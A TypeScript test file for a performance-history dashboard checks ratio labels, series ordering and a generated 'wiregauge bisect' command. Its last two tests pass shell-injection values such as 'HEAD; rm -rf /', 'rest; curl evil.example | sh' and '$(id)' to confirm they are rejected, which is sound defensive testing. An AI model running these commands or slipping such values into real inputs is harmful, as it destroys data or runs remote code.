import { describe, expect, it } from 'vitest';
import { bisectCommand } from '../../../site/model/bisect.ts';
import { inOrder, seriesGroups } from '../../../site/model/grouping.ts';
import { EMPTY_STORE, withSegment } from '../../../site/model/store.ts';
import { ratioRange } from '../../../site/model/ticks.ts';
import { figureText, seriesLabel } from '../../../site/model/words.ts';
import type { HistoryChange } from '../../../src/history/store/changes.ts';
import type { HistoryEntry } from '../../../src/history/store/entry.ts';
import { sampleEntry, sampleSeries } from '../../support/sample-history.ts';

const RATIO = sampleSeries({ unit: '× v1.4.0' });
const sha = (place: number) => place.toString(16).padStart(40, '0');

describe('a series of ratios to an anchor', () => {
  it('is shown as the change that it is, 0 being the anchor', () => {
    expect([1, 1.031, 0.98].map((value) => figureText(RATIO, value))).toEqual(['0%', '+3.1%', '−2.0%']);
    expect(seriesLabel(RATIO)).toMatch(/, since v1\.4\.0$/);
  });

  it('comes first, that of the newest release before the others', () => {
    const older = sampleSeries({ unit: '× v1.9.0' });
    const newer = sampleSeries({ unit: '× v1.10.0' });
    const all = [sampleSeries(), older, newer];

    expect(inOrder(all)).toEqual([newer, older, sampleSeries()]);
    expect(seriesGroups(all).map(({ title }) => title)).toEqual([
      'REST, all operations, since v1.10.0',
      'REST, all operations, since v1.9.0',
      'REST, all operations',
    ]);
  });

  it('has the anchor in sight', () => {
    const [low, high] = ratioRange(1.05, 1.06);

    expect(low).toBeLessThan(1);
    expect(high).toBeGreaterThan(1.06);
  });
});

describe('the command that finds the commit behind a change', () => {
  const entry = (place: number, change: Partial<HistoryEntry> = {}) =>
    sampleEntry({
      run: `r${place}`,
      at: `2026-01-0${place + 1}T00:00:00.000Z`,
      commit: { sha: sha(place + 1) },
      ...change,
    });
  const store = (change: Partial<HistoryEntry> = {}) =>
    withSegment(
      EMPTY_STORE,
      '2026-01.jsonl',
      [0, 1, 2].map((place) => entry(place, change)),
    );
  const change = (more: Partial<HistoryChange> = {}): HistoryChange => ({
    series: sampleSeries(),
    run: 'r2',
    at: '2026-01-03T00:00:00.000Z',
    commit: sha(3),
    before: 1,
    after: 1.1,
    shift: 0.1,
    p: 0.0001,
    runsAfter: 7,
    pending: false,
    ...more,
  });

  it('goes from the run before the change to the run that it begins with', () => {
    expect(bisectCommand(store(), change())).toBe(
      `npx wiregauge bisect --good ${sha(2).slice(0, 12)} --bad ${sha(3).slice(0, 12)} --service rest --metric cpuMicrosPerRequest`,
    );
  });

  it.each([
    { beside: 1, good: 1, bad: 3 },
    { beside: 3, good: 2, bad: 4 },
  ])('takes in the neighbor $beside', ({ beside, good, bad }) => {
    const neighbor = { run: `r${beside}`, at: `2026-01-0${beside + 1}T00:00:00.000Z`, commit: sha(beside + 1) };

    expect(bisectCommand(store(), change({ neighbor }))).toContain(
      `--good ${sha(good).slice(0, 12)} --bad ${sha(bad).slice(0, 12)}`,
    );
  });

  it('is there for what got worse only, and if both commits are known', () => {
    expect(bisectCommand(store(), change({ shift: -0.1 }))).toBeUndefined();
    expect(bisectCommand(store(), change({ run: 'r0' }))).toBeUndefined();
    expect(bisectCommand(store({ commit: { sha: 'HEAD; rm -rf /' } }), change())).toBeUndefined();
  });

  it('takes no name that a shell could take for something else', () => {
    const series = sampleSeries({ service: 'rest; curl evil.example | sh' });

    expect(bisectCommand(store({ series: [series] }), change({ series }))).toBeUndefined();
    expect(bisectCommand(store(), change({ commit: '$(id)' }))).toBeUndefined();
    expect(bisectCommand(store(), change({ series: sampleSeries({ metric: 'toString' }) }))).toBeUndefined();
  });
});
